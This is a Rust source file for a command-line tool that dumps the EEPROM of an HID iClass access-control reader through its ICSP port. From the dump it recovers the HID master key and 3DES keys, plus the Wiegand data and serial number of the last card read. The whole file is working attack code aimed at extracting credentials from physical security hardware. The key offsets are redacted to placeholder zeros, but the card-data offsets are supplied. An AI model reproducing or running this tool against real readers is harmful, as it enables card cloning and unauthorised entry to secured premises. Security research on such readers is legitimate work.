// This Source Code Form is subject to the terms of the Mozilla Public
// License, v. 2.0. If a copy of the MPL was not distributed with this
// file, You can obtain one at https://mozilla.org/MPL/2.0/.

//! Dumps the EEPROM of an HID iClass reader over its ICSP port and recovers
//! the stored key material.
//!
//! The reader's PIC is put in program mode by raising VPP externally (a 9V
//! battery on the ICSP header works); everything else happens over an FTDI
//! TTL-232R cable in synchronous bit-bang mode. See the `drv-ftdi-icsp`
//! docs for the wiring table.

use std::io::Write as _;
use std::time::Duration;

use anyhow::{anyhow, Context, Result};
use clap::Parser;

use drv_ftdi_icsp::Adapter;
use iclass_keys::{Derivation, KEY_LEN};

#[derive(Parser)]
#[clap(version, about = "HID iClass reader EEPROM dumper and key extractor")]
struct Args {
    /// Print the full register dump and intermediate key stages.
    #[clap(short, long)]
    verbose: bool,

    /// FTDI device enumeration index.
    #[clap(long, default_value_t = 0)]
    device: i32,

    /// Bit-bang sample rate in baud; PGC runs at half this.
    #[clap(long, default_value_t = drv_ftdi_icsp::DEFAULT_BAUD_RATE)]
    baud: u32,

    /// Number of registers to sweep. The sweep starts at index 1, so the
    /// last register read is `registers - 1`.
    #[clap(long, default_value_t = 1536)]
    registers: usize,

    /// Seconds to wait for the VPP hookup before any line is driven; 0
    /// skips the wait.
    #[clap(long, default_value_t = 20)]
    wait: u64,

    /// Byte offset of the HID master key window. The offsets published
    /// with the original research were redacted; 0 is a placeholder.
    #[clap(long, default_value_t = 0)]
    master_offset: usize,

    /// Byte offset of the 3DES K1 window (redacted upstream; see
    /// --master-offset).
    #[clap(long, default_value_t = 0)]
    k1_offset: usize,

    /// Byte offset of the 3DES K2 window (redacted upstream; see
    /// --master-offset).
    #[clap(long, default_value_t = 0)]
    k2_offset: usize,

    /// Byte offset of the last-read card's Wiegand data.
    #[clap(long, default_value_t = 444)]
    last_card_offset: usize,

    /// Byte offset of the first four bytes of the last-read card's CSN.
    #[clap(long, default_value_t = 393)]
    csn1_offset: usize,

    /// Byte offset of the full 8-byte CSN copy. Known to be unreliable on
    /// some deployments; the correct offset varies by firmware.
    #[clap(long, default_value_t = 1470)]
    csn2_offset: usize,
}

fn main() -> Result<()> {
    env_logger::init();
    let args = Args::parse();

    println!("iClass EEPROM dumper");
    println!("--------------------");

    print!("Connecting to FTDI adapter... ");
    std::io::stdout().flush().ok();
    let mut adapter = Adapter::open(args.device, args.baud)
        .context("opening FTDI adapter (on Linux the in-kernel driver may \
                  own the device: rmmod ftdi_sio usbserial)")?;
    println!("connected.");

    match adapter.bus_state() {
        Ok(state) => {
            println!("Bus state check passed.");
            log::debug!("instantaneous bus state: {state:#04x}");
        }
        Err(e) => println!("Bus state check failed: {e}"),
    }

    if args.wait > 0 {
        println!();
        println!("Make sure at least one card has been read by the reader,");
        println!("connect the cable to the reader's ICSP port, and raise");
        println!("VPP to 9V.");
        countdown(args.wait);
    }

    println!();
    println!(
        "Dumping {} registers (about {}s)...",
        args.registers,
        sweep_estimate_secs(args.registers, args.baud),
    );

    let mut channel = icsp::Channel::new(adapter);
    let mut registers = vec![0u8; args.registers];
    icsp::dump_registers(&mut channel, &mut registers)
        .context("register sweep failed; partial data discarded")?;
    println!("Dump complete.");

    // Reset the bit mode and release the cable before reporting; the
    // reader side should stop being driven as soon as we have the data.
    drop(channel);

    if args.verbose {
        println!();
        println!("Full register dump (index 0 is never read):");
        hex_dump(&registers);
    }

    println!();
    println!("Recovered keys:");
    for (label, offset) in [
        ("HID master", args.master_offset),
        ("3DES K1", args.k1_offset),
        ("3DES K2", args.k2_offset),
    ] {
        let d = Derivation::of(window(&registers, offset)?);
        println!("  {label}:");
        if args.verbose {
            println!("    {} (parsed)", hex(&d.parsed));
            println!("    {} (permuted)", hex(&d.permuted));
        }
        println!("    {} (key)", hex(&d.key()));
    }

    println!();
    println!("Last card read by the reader:");
    println!(
        "  Wiegand:        {}",
        hex(slice(&registers, args.last_card_offset, 4)?)
    );
    println!(
        "  CSN (first 4):  {}",
        hex(slice(&registers, args.csn1_offset, 4)?)
    );
    // The full-CSN offset is firmware dependent and this default is known
    // to be wrong on some units; flag it rather than pretending.
    println!(
        "  CSN (full):     {} (not always right)",
        hex(slice(&registers, args.csn2_offset, 8)?)
    );

    println!();
    println!("Done. Disconnect the cable from the reader's ICSP port.");
    Ok(())
}

fn countdown(secs: u64) {
    for remaining in (1..=secs).rev() {
        print!("\r\x1b[KStarting in {remaining} seconds...");
        std::io::stdout().flush().ok();
        std::thread::sleep(Duration::from_secs(1));
    }
    println!();
}

/// Rough sweep duration: three 41-byte frames per register, two bus
/// transits each (drive plus echo).
fn sweep_estimate_secs(registers: usize, baud: u32) -> u64 {
    let bytes = registers as u64 * 3 * 41 * 2;
    (bytes / u64::from(baud.max(1))).max(1)
}

fn window(registers: &[u8], offset: usize) -> Result<[u8; KEY_LEN]> {
    let mut out = [0; KEY_LEN];
    out.copy_from_slice(slice(registers, offset, KEY_LEN)?);
    Ok(out)
}

fn slice(registers: &[u8], offset: usize, len: usize) -> Result<&[u8]> {
    registers.get(offset..offset + len).ok_or_else(|| {
        anyhow!(
            "offset {offset}+{len} is outside the {}-register dump",
            registers.len()
        )
    })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

fn hex_dump(bytes: &[u8]) {
    for (i, row) in bytes.chunks(16).enumerate() {
        print!("  {:04x}: ", i * 16);
        for byte in row {
            print!("{byte:02x} ");
        }
        println!();
    }
}
